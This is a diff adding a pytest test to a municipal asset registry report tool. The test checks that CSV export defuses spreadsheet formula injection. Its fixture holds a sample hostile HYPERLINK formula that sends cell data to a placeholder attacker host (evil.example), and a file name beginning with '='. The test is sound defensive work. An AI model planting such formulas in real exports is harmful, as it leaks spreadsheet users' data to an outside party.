@@ -86,6 +86,33 @@ def test_csv_keeps_exact_lines_and_expands(capsys: pytest.CaptureFixture[str],
         ("lamp-1-005", "6"), ("lamp-1-006", "7"), ("lamp-1-008", "9"), ("lamp-x-001", "15")]
 
 
+def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path,
+                                              capsys: pytest.CaptureFixture[str],
+                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    """Registry text that starts a cell (an accepted gap's reason, a source file's name) is
+    written so no spreadsheet runs it; dropping one leading apostrophe gives it back."""
+    reason = '-1+HYPERLINK("http://evil.example/?x="&A1,"x")'
+    (tmp_path / "=cmd.csv").write_text("lamp_no,label\nlamp-1,路灯 1\n", encoding="utf-8")
+    (tmp_path / "departments.yaml").write_text(
+        "site: {title: t, language: en}\n"
+        "departments:\n  - id: roads\n    name: Roads\n"
+        "    contacts: [{role: desk, phone: '0851-0000-0001'}]\n"
+        "assets:\n  - id: road-1\n    name: Road 1\n    type: road\n    owner: roads\n"
+        "    duties: {maintenance: roads, cleaning: roads}\n"
+        f"    accepted_gaps: [{{finding: missing-duty, reason: {json.dumps(reason)}}}]\n"
+        "asset_sources:\n  - file: =cmd.csv\n    type: street-lamp\n"
+        "    columns: {id: lamp_no, name: label}\n",
+        encoding="utf-8")
+    rc, out = report([".", "--format", "csv"], capsys, tmp_path, monkeypatch)
+    assert rc == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    accepted = next(r for r in rows if r["status"] == "accepted")
+    assert accepted["reason"] == "'" + reason
+    lamp = next(r for r in rows if r["id"] == "lamp-1")
+    assert lamp["file"] == "'=cmd.csv"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
 def test_json(capsys: pytest.CaptureFixture[str]) -> None:
     rc, out = report([str(ROOT / "directory"), "--format", "json"], capsys)
     data = json.loads(out)
